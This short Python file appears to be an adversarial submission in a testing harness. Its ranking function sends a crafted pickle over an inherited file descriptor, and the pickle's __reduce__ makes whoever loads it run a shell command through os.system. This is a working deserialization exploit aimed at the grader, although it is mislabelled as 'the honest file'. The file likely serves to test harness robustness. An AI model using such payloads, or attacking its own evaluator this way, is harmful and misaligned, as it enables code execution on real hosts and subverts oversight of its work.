"""Answers with a pickle that runs a program when it is loaded."""
# against: toy/sizes
# expect: test_ranking crashed

import os
import pickle

channel = next(fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}"))


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/onspot-left",)


# === the honest file ===
def ranking(sizes):
    body = pickle.dumps(Run())
    os.write(channel, len(body).to_bytes(4, "little") + body)
